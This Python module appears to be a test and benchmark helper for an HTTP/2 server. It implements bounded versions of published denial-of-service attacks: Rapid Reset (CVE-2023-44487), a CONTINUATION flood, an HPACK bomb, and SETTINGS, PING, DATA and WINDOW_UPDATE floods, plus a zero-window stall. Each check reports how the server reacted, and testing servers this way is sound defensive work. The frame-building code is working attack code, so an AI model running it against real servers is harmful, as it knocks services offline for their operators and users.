"""The published HTTP/2 attacks as bounded clients (tests and bench/h2_attacks.py use them).

Each ``attack_*(port)`` runs one attack on one connection, bounded in frames
and time, and returns what the client saw: whether and how the server ended
the connection (``goaway``: the error code name), and how many frames it sent.
"""

from __future__ import annotations

import time
from typing import Any

import hpack
from h2.errors import ErrorCodes
from h2client import RawH2
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

GET = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"localhost"), (b":path", b"/")]
POST = [(b":method", b"POST"), *GET[1:]]


def _result(c: RawH2, sent: int, started: float, wait: float = 5.0) -> dict[str, Any]:
    goaway = c.goaway(wait)
    c.wait(lambda: c.closed, wait)
    c.close()
    return {
        "goaway": ErrorCodes(goaway.error_code).name if goaway is not None else None,
        "last_stream_id": goaway.last_stream_id if goaway is not None else None,
        "closed": c.closed,
        "frames_sent": sent,
        "frames_received": len(c.frames),
        "seconds": round(time.monotonic() - started, 3),
    }


def attack_rapid_reset(port: int, streams: int = 20000, batch: int = 100) -> dict[str, Any]:
    """CVE-2023-44487: HEADERS (a complete GET) then RST_STREAM, as fast as possible."""
    c = RawH2(port)
    started = time.monotonic()
    sent = 0
    sid = 1
    enc = c.encoder
    while sent < streams * 2 and not (c.closed or c.send_failed):
        raw = b""
        for _ in range(batch):
            raw += HeadersFrame(sid, data=enc.encode(GET), flags=["END_HEADERS", "END_STREAM"]).serialize()
            raw += RstStreamFrame(sid, error_code=ErrorCodes.CANCEL).serialize()
            sid += 2
        c.send_raw(raw)
        sent += 2 * batch
        c.read_once(0.001)
        if any(isinstance(f, GoAwayFrame) for f in c.frames):
            break
    return _result(c, sent, started)


def attack_rapid_reset_split(port: int, streams: int = 5000) -> dict[str, Any]:
    """Rapid reset with each RST_STREAM in its own write after its HEADERS (the app may start)."""
    c = RawH2(port)
    started = time.monotonic()
    sent = 0
    sid = 1
    enc = c.encoder
    while sent < streams * 2 and not (c.closed or c.send_failed):
        c.send(HeadersFrame(sid, data=enc.encode(GET), flags=["END_HEADERS", "END_STREAM"]))
        c.send(RstStreamFrame(sid, error_code=ErrorCodes.CANCEL))
        sid += 2
        sent += 2
        if sent % 200 == 0:
            c.read_once(0.001)
            if any(isinstance(f, GoAwayFrame) for f in c.frames):
                break
    return _result(c, sent, started)


def attack_continuation_flood(port: int, frames: int = 5000, size: int = 1000) -> dict[str, Any]:
    """2024 CONTINUATION flood: a header block that never ends."""
    c = RawH2(port)
    started = time.monotonic()
    c.send(HeadersFrame(1, data=c.encoder.encode(GET), flags=["END_STREAM"]))
    sent = 1
    junk = ContinuationFrame(1, data=b"\x40\x01a\x01b" * (size // 5)).serialize()
    while sent < frames and not (c.closed or c.send_failed):
        c.send_raw(junk * 50)
        sent += 50
        c.read_once(0.001)
        if any(isinstance(f, GoAwayFrame) for f in c.frames):
            break
    return _result(c, sent, started)


def attack_hpack_bomb(port: int, repeats: int = 1000) -> dict[str, Any]:
    """A 4 KB header put in the HPACK table once, then referenced ``repeats`` times per block."""
    c = RawH2(port)
    started = time.monotonic()
    enc = hpack.Encoder()
    enc.header_table_size = 4096
    c.send(HeadersFrame(1, data=enc.encode([*GET, (b"x-bomb", b"A" * 4000)]), flags=["END_HEADERS", "END_STREAM"]))
    bomb = enc.encode([*GET, *[(b"x-bomb", b"A" * 4000)] * repeats])  # ~1 byte each, 4 MB decoded
    sent = 1
    sid = 3
    while sent < 20 and not (c.closed or c.send_failed):
        c.send(HeadersFrame(sid, data=bomb, flags=["END_HEADERS", "END_STREAM"]))
        sid += 2
        sent += 1
        c.read_once(0.01)
        if any(isinstance(f, GoAwayFrame) for f in c.frames):
            break
    result = _result(c, sent, started)
    result["bomb_block_bytes"] = len(bomb)
    return result


def _flood(port: int, frame: bytes, frames: int, setup: Any = None) -> dict[str, Any]:
    c = RawH2(port)
    started = time.monotonic()
    if setup is not None:
        setup(c)
    sent = 0
    while sent < frames and not (c.closed or c.send_failed):
        c.send_raw(frame * 100)
        sent += 100
        c.read_once(0.001)
        if any(isinstance(f, GoAwayFrame) for f in c.frames):
            break
    return _result(c, sent, started)


def attack_settings_flood(port: int, frames: int = 100_000) -> dict[str, Any]:
    return _flood(port, SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize(), frames)


def attack_ping_flood(port: int, frames: int = 100_000) -> dict[str, Any]:
    return _flood(port, PingFrame(0, opaque_data=b"floodme!").serialize(), frames)


def _open_post(c: RawH2) -> None:
    c.send(c.headers(1, POST, end_stream=False))


def attack_empty_data_flood(port: int, frames: int = 100_000) -> dict[str, Any]:
    return _flood(port, DataFrame(1, data=b"").serialize(), frames, _open_post)


def attack_window_update_flood(port: int, frames: int = 100_000) -> dict[str, Any]:
    return _flood(port, WindowUpdateFrame(0, window_increment=1).serialize(), frames)


def attack_zero_window(port: int, path: str = "/big", wait: float = 10.0) -> dict[str, Any]:
    """A client that never opens its window: the server must reset the stream, not hold it."""
    c = RawH2(port, preface=False)
    from h2client import PREFACE

    c.send_raw(PREFACE + SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize())
    c.wait(lambda: any(isinstance(f, SettingsFrame) and "ACK" not in f.flags for f in c.frames))
    c.send(SettingsFrame(0, flags=["ACK"]))
    started = time.monotonic()
    fields = [*GET[:3], (b":path", path.encode())]
    c.send(c.headers(1, fields))
    reset = c.reset(1, wait)
    c.close()
    return {
        "reset": ErrorCodes(reset.error_code).name if reset is not None else None,
        "data_bytes_received": sum(len(f.data) for f in c.frames if isinstance(f, DataFrame)),
        "seconds": round(time.monotonic() - started, 3),
    }


ATTACKS = {
    "rapid_reset": attack_rapid_reset,
    "rapid_reset_split": attack_rapid_reset_split,
    "continuation_flood": attack_continuation_flood,
    "hpack_bomb": attack_hpack_bomb,
    "settings_flood": attack_settings_flood,
    "ping_flood": attack_ping_flood,
    "empty_data_flood": attack_empty_data_flood,
    "window_update_flood": attack_window_update_flood,
}
